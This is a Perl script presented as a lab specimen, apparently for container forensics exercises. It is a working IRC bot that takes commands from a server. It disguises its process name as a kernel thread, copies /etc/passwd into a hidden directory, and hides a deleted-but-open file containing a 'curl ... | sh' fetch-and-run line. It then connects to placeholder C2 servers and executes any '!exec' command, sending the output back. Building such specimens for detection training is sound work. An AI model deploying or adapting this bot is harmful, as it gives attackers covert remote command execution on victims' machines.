#!/usr/bin/perl
# kcsi lab specimen: IRC bot (runs inside the lab container; all its peers are on 127.x).
# The scenario fills in the @@...@@ placeholders before copying it into the container.
#  - rewrites $0 to look like a kernel thread
#  - stages a copy of /etc/passwd in a hidden directory
#  - writes a "journal" file, keeps it open and deletes it (a ghost file for CRIU)
#  - connects to its C2 list in turn: NICK / USER with the bot key / JOIN the channel,
#    runs `!exec CMD` and sends the output back as PRIVMSGs, reconnects when dropped
use strict;
use warnings;
use IO::Socket::INET;
use IO::Select;

my @C2      = qw(@@C2_LIST@@);          # host:port, tried in turn
my $KEY     = '@@BOT_KEY@@';
my $CHAN    = '@@CHANNEL@@';
my $CHANKEY = '@@CHANNEL_KEY@@';
my $STAGE   = '@@STAGE_DIR@@';
my $PROCNAME = '@@PROCNAME@@';

$0 = $PROCNAME;
$SIG{PIPE} = 'IGNORE';
$SIG{CHLD} = 'DEFAULT';

# staging: copy of /etc/passwd in a hidden directory (closed again)
mkdir $STAGE, 0700;
if (open(my $in, '<', '/etc/passwd') and open(my $out, '>', "$STAGE/.pw.bak")) {
    print $out $_ while <$in>;
    close $out;
    close $in;
}

# ghost: written, kept open, deleted
open(our $JOURNAL, '+>', "$STAGE/.sess-journal") or die;
syswrite($JOURNAL, "bot=$KEY\nnext: curl -s http://127.13.37.12:8000/k.sh | sh\n");
unlink "$STAGE/.sess-journal";

my $nick = sprintf('kw%05d', int(rand(100000)));
my $idx = 0;
while (1) {
    my ($h, $p) = split /:/, $C2[$idx % @C2];
    $idx++;
    my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p, Proto => 'tcp', Timeout => 3);
    if (!$s) { sleep 2; next; }
    $s->autoflush(1);
    print $s "NICK $nick\r\n";
    print $s "USER $nick 0 * :$KEY\r\n";
    my $buf = '';
    my $sel = IO::Select->new($s);
    SESSION: while (1) {
        next unless $sel->can_read(60);
        my $n = sysread($s, my $d, 4096);
        last SESSION unless $n;
        $buf .= $d;
        while ($buf =~ s/^([^\n]*)\n//) {
            my $l = $1;
            $l =~ s/\r$//;
            if ($l =~ /^PING\s+(.*)$/) { print $s "PONG $1\r\n"; }
            elsif ($l =~ /^:\S+\s+001\s/) { print $s "JOIN $CHAN $CHANKEY\r\n"; }
            elsif ($l =~ /^ERROR\b/) { last SESSION; }
            elsif ($l =~ /^:\S+\s+PRIVMSG\s+(\S+)\s+:!exec\s+(.*)$/) {
                my ($to, $cmd) = ($1, $2);
                my @out = `$cmd 2>&1`;
                @out = ('(no output)') unless @out;
                for my $o (@out) {
                    chomp $o;
                    print $s "PRIVMSG $to :$o\r\n";
                }
            }
        }
    }
    close $s;
    sleep 2;
}
